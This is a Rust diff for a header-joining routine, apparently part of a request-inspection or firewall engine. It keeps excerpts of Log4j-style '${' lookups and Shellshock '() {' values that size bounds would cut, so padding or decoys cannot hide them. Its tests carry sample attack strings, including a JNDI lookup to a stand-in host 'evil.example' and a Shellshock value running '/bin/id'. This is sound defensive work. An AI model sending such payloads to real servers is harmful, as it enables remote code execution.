@@ -29,31 +29,55 @@ pub fn truncate(s: &str, max: usize) -> &str {
 /// Most bytes of one header value; longer values are cut.
 pub const MAX_HEADER_VALUE_BYTES: usize = 2 * 1024;
 
-/// Most payload excerpts added past the bounds ([`payload_excerpt`]).
+/// Most payload excerpts added past the bounds ([`payload_excerpts`]).
 pub const MAX_PAYLOAD_EXCERPTS: usize = 4;
 /// Most bytes of one payload excerpt.
 pub const PAYLOAD_EXCERPT_BYTES: usize = 256;
 
-/// The payload a header carries in a part the bounds cut (`cut_from`: the byte where
-/// the cut began, 0 for a header dropped whole): from the first injection marker there
-/// that rule components look for in any header (a log4j lookup's `${`, a shell
-/// function definition `() {` opening the value), at most [`PAYLOAD_EXCERPT_BYTES`].
-/// So padding a value, or sending a payload past the line bound, hides nothing.
-fn payload_excerpt(value: &str, cut_from: usize) -> Option<&str> {
-    // A marker may straddle the cut: look from a few bytes before it.
-    let mut from = cut_from.saturating_sub(4);
+/// Bytes before a cut searched for a marker that straddles it (longer than any lookup
+/// prefix, `${lower:`).
+const STRADDLE_BYTES: usize = 32;
+
+/// Whether the `${` at the start of `text` opens a lookup (a `:` or a nested `$`
+/// before any `}`, within 16 bytes: `${jndi:`, `${${lower:j}…`, `${::-j}`), not a
+/// template placeholder such as `${name}` that could be sent to use up the excerpts.
+fn is_lookup_shaped(text: &[u8]) -> bool {
+    text[2..]
+        .iter()
+        .take(16)
+        .take_while(|&&b| b != b'}')
+        .any(|&b| b == b':' || b == b'$')
+}
+
+/// The payloads a header carries in a part the bounds cut (`cut_from`: the byte where
+/// the cut began, 0 for a header dropped whole), each from an injection marker that
+/// rule components look for in any header (a lookup-shaped `${`, a shell function
+/// definition `() {` opening the value), at most [`PAYLOAD_EXCERPT_BYTES`] each, and
+/// not overlapping. So padding a value, or sending a payload past the line bound,
+/// hides nothing.
+fn payload_excerpts(value: &str, cut_from: usize) -> impl Iterator<Item = &str> {
+    let opening = value.trim_ascii_start();
+    let shellshock = (cut_from == 0 && opening.starts_with("() {"))
+        .then(|| truncate(opening, PAYLOAD_EXCERPT_BYTES));
+    let mut from = cut_from.saturating_sub(STRADDLE_BYTES);
     while !value.is_char_boundary(from) {
         from -= 1;
     }
     let bytes = value.as_bytes();
-    if cut_from == 0 && value.trim_ascii_start().starts_with("() {") {
-        return Some(truncate(value.trim_ascii_start(), PAYLOAD_EXCERPT_BYTES));
-    }
-    memchr::memchr_iter(b'$', &bytes[from..])
-        .map(|i| from + i)
-        .find(|&at| bytes[at..].starts_with(b"${"))
+    let mut next_free = from;
+    let lookups = memchr::memchr_iter(b'$', &bytes[from..])
+        .map(move |i| from + i)
+        .filter(move |&at| {
+            let text = &bytes[at..];
+            let fresh = at >= next_free && text.starts_with(b"${") && is_lookup_shaped(text);
+            if fresh {
+                next_free = at + PAYLOAD_EXCERPT_BYTES;
+            }
+            fresh
+        })
         // `$` is ASCII: `at` is a character boundary.
-        .map(|at| truncate(&value[at..], PAYLOAD_EXCERPT_BYTES))
+        .map(|at| truncate(&value[at..], PAYLOAD_EXCERPT_BYTES));
+    shellshock.into_iter().chain(lookups)
 }
 
 /// Headers rule components rely on. When the line bound is reached, each of these is
@@ -84,7 +108,7 @@ const ESSENTIAL_HEADERS: [&str; 15] = [
 /// that are not UTF-8 are passed lossily; line breaks inside a value become spaces so a
 /// value can never forge a header line. Past all bounds, up to [`MAX_PAYLOAD_EXCERPTS`]
 /// lines `name: excerpt` carry the payloads found in what was cut
-/// ([`payload_excerpt`]). The flag says whether anything was cut.
+/// ([`payload_excerpts`]). The flag says whether anything was cut.
 pub fn join_headers<'a, I>(host: &str, headers: I) -> (String, bool)
 where
     I: IntoIterator<Item = (&'a str, &'a [u8])>,
@@ -97,10 +121,9 @@ where
     let mut truncated = false;
     let mut excerpts: smallvec::SmallVec<[(&str, String); 1]> = smallvec::SmallVec::new();
     let mut keep_excerpt = |name: &'a str, value: &str, cut_from: usize| {
-        if excerpts.len() < MAX_PAYLOAD_EXCERPTS
-            && let Some(excerpt) = payload_excerpt(value, cut_from)
-        {
-            excerpts.push((name, excerpt.to_owned()));
+        let room = MAX_PAYLOAD_EXCERPTS - excerpts.len();
+        for excerpt in payload_excerpts(value, cut_from).take(room) {
+            excerpts.push((truncate(name, 64), excerpt.to_owned()));
         }
     };
     for (name, value) in headers {
@@ -317,6 +340,31 @@ mod tests {
         }));
         assert!(
             joined.ends_with("\nx-shell: () { :; }; /bin/id"),
+            "{joined}"
+        );
+    }
+
+    #[test]
+    fn placeholders_and_a_cut_inside_the_marker_hide_no_payload() {
+        let payload = "${jndi:ldap://evil.example/a}";
+        for k in 0..12 {
+            let value = format!("{}{payload}", "a".repeat(MAX_HEADER_VALUE_BYTES - k));
+            let (joined, _) = join([("x-pad", value.as_bytes())]);
+            assert!(
+                joined.ends_with(&format!("\nx-pad: {payload}")),
+                "{k}: {joined}"
+            );
+        }
+        let decoys = format!("{}{}{payload}", "x".repeat(2100), "${name} ".repeat(60));
+        let (joined, _) = join([("x-decoys", decoys.as_bytes())]);
+        assert!(joined.contains(&format!("x-decoys: {payload}")), "{joined}");
+        let mut late: Vec<(String, String)> = (0..70)
+            .map(|i| (format!("x-filler-{i}"), "${placeholder}".to_owned()))
+            .collect();
+        late.push(("x-late".into(), payload.into()));
+        let (joined, _) = join(late.iter().map(|(n, v)| (n.as_str(), v.as_bytes())));
+        assert!(
+            joined.ends_with(&format!("\nx-late: {payload}")),
             "{joined}"
         );
     }
